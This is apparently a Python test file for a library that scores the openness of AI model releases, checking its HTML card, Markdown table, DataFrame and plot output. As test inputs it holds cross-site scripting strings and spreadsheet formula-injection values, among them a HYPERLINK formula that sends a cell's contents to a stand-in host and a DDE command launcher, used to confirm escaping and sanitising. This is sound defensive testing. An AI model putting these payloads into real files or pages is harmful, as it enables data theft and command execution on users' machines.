"""Notebook and report outputs: the HTML card, Markdown, DataFrame and the scale plot."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import openness
from openness._frame import COLUMNS

ROOT = Path(__file__).resolve().parent.parent
RELEASES = sorted((ROOT / "data" / "releases").glob("*.yaml"))
CARDS = ROOT / "tests" / "cases" / "cards"

HOSTILE = {
    "name": "<script>alert('x')</script>",
    "producer": "Evil & Co",
    "access": "open",
    "license": "<b>not a licence</b>",
    "claims": ["fully open <img src=x onerror=alert(1)>"],
    "components": {"model_parameters_final": {}},
}


def test_html_card_escapes_everything() -> None:
    html = openness.score(HOSTILE)._repr_html_()
    assert "<script>" not in html
    assert "<img" not in html
    assert "&lt;script&gt;" in html
    assert "<b>not a licence</b>" not in html
    assert "script" not in html.replace("&lt;script&gt;", "").replace("&lt;/script&gt;", "")


def test_html_card_shows_level_score_verdicts_and_findings() -> None:
    a = openness.score(CARDS / "google--gemma-2-9b" / "README.md")
    html = a._repr_html_()
    assert "2 RESTRICTED_WEIGHTS" in html
    assert f"{a.score:.1f}" in html
    for title in ("Open Source AI Definition", "Open Weight Definition", "EU AI Act"):
        assert title in html
    assert "open-washing" in html
    assert "weights-use-restrictions" in html


def test_markdown_escapes_table_cells() -> None:
    md = openness.to_markdown(openness.score({**HOSTILE, "name": "a|b"}))
    assert "| a\\|b |" in md
    assert "<script>" not in md


def test_markdown_of_many() -> None:
    md = openness.to_markdown([openness.score(p) for p in RELEASES[:3]])
    assert len([ln for ln in md.splitlines() if ln.startswith("## ")]) == 3


def test_to_frame() -> None:
    import pandas as pd  # noqa: PLC0415 - the frame extra

    assessments = [openness.score(p) for p in RELEASES]
    frame = openness.to_frame(assessments)
    assert isinstance(frame, pd.DataFrame)
    assert tuple(frame.columns) == COLUMNS
    assert len(frame) == len(RELEASES)
    olmo = frame[frame["name"] == "OLMo-7B"].iloc[0]
    assert olmo["level_name"] == "OPEN_SCIENCE"
    assert olmo["level"] == 6
    assert frame["score"].between(0, 100).all()
    for name in ("osaid", "owd", "eu_ai_act"):
        assert frame[name].dtype == bool
        assert set(frame[f"{name}_status"]) <= {"pass", "fail", "unverified"}
        # Passed is exactly the pass status: unverified is not passed.
        assert (frame[name] == (frame[f"{name}_status"] == "pass")).all()


@pytest.mark.parametrize(
    ("path", "osaid", "status"),
    [
        pytest.param("data/releases/pythia-6.9b.yaml", True, "pass", id="pythia-passes"),
        pytest.param("data/releases/llama-3.1-8b.yaml", False, "fail", id="llama-fails"),
        pytest.param(
            "tests/cases/cards/allenai--OLMo-2-1124-7B/README.md",
            False,
            "unverified",
            id="olmo-2-unverified",
        ),
    ],
)
def test_to_frame_verdicts(path: str, osaid: bool, status: str) -> None:
    a = openness.score(ROOT / path)
    row = openness.to_frame([a]).iloc[0]
    assert (row["osaid"], row["osaid_status"]) == (osaid, status)
    assert row["osaid_status"] == str(a.osaid.status)


@pytest.mark.parametrize(
    "name",
    [
        pytest.param('=HYPERLINK("https://evil.example/?x="&A1,"Click")', id="hyperlink"),
        pytest.param("+cmd|' /C calc'!A0", id="dde-plus"),
        pytest.param("-2+3", id="minus"),
        pytest.param("@SUM(1+1)", id="at"),
        pytest.param("\uff1dcmd", id="fullwidth-equals"),
    ],
)
def test_to_frame_sanitize_makes_formulas_text(name: str) -> None:
    a = openness.score({"name": name, "producer": name, "license": name})
    kept = openness.to_frame([a]).iloc[0]
    assert (kept["name"], kept["producer"], kept["license"]) == (name, name, name)
    frame = openness.to_frame([a], sanitize=True)
    safe = frame.iloc[0]
    assert (safe["name"], safe["producer"], safe["license"]) == (f"'{name}",) * 3
    # Numbers and booleans are not text: kept, with their types.
    assert frame.dtypes.equals(openness.to_frame([a]).dtypes)
    assert safe["score"] == kept["score"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("OLMo-7B", "OLMo-7B"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell(value: str, expected: str) -> None:
    assert openness.safe_cell(value) == expected


def _plotted(labels: str = "auto", names: dict[str, str] | None = None) -> tuple[Any, list[Any]]:
    import matplotlib as mpl  # noqa: PLC0415 - the plot extra

    mpl.use("Agg")
    assessments = [openness.score(p) for p in RELEASES]
    renamed = names or {}
    assessments = [
        openness.score(a.release.model_copy(update={"name": renamed[a.name]}))
        if a.name in renamed
        else a
        for a in assessments
    ]
    return openness.plot_scale(assessments, labels=labels), assessments  # type: ignore[arg-type]


def test_plot_scale_bands_points_and_labels() -> None:
    import matplotlib.pyplot as plt  # noqa: PLC0415 - the plot extra

    ax, assessments = _plotted()
    try:
        assert ax.get_yticklabels()[0].get_text() == "0 CLOSED"
        # One scatter call per rung reached, each point inside its own rung's band.
        levels = {int(a.level) for a in assessments}
        assert len(ax.collections) == len(levels)
        by_level = {n: sorted(a.score for a in assessments if int(a.level) == n) for n in levels}
        for points in ax.collections:
            xy = points.get_offsets()
            level = round(float(xy[:, 1].mean()))
            assert sorted(float(x) for x in xy[:, 0]) == pytest.approx(by_level[level])
            assert (abs(xy[:, 1] - level) < 0.45).all()
        # The rungs are drawn as bands (one patch per level).
        assert len(ax.patches) == len(openness.Level)
        # Labels never overlap one another, and most releases are labelled.
        renderer = ax.figure.canvas.get_renderer()
        boxes = [t.get_window_extent(renderer) for t in ax.texts]
        assert len(boxes) >= 0.9 * len(assessments)
        for i, a in enumerate(boxes):
            for b in boxes[i + 1 :]:
                assert not a.overlaps(b) or a.intersection(a, b).width < 1
    finally:
        plt.close("all")


@pytest.mark.parametrize(
    ("labels", "expected"),
    [
        pytest.param("all", 46, id="all"),
        pytest.param("none", 0, id="none"),
    ],
)
def test_plot_scale_label_modes(labels: str, expected: int) -> None:
    import matplotlib.pyplot as plt  # noqa: PLC0415 - the plot extra

    ax, assessments = _plotted(labels)
    assert len(assessments) == expected or expected == 0
    assert len(ax.texts) == expected
    plt.close("all")


def test_plot_scale_draws_names_as_written() -> None:
    import matplotlib.pyplot as plt  # noqa: PLC0415 - the plot extra

    # A "$" in a name is text, not mathematics: drawn as written, and drawing does not fail.
    ax, _ = _plotted(names={"Phi-2": "Phi-2 $x^2$", "GPT-4o": "GPT $4o"})
    ax.figure.canvas.draw()
    shown = {t.get_text() for t in ax.texts}
    assert {"Phi-2 $x^2$", "GPT $4o"} <= shown
    assert all(not t.get_usetex() for t in ax.texts)
    plt.close("all")


def test_plot_scale_refuses_an_unknown_label_mode() -> None:
    with pytest.raises(ValueError, match="labels"):
        openness.plot_scale([], labels="some")  # type: ignore[arg-type]


def test_importing_openness_loads_no_heavy_extra() -> None:
    code = (
        "import sys, openness; "
        "print(sorted(m for m in ('pandas', 'matplotlib', 'cyclonedx') if m in sys.modules))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[]"
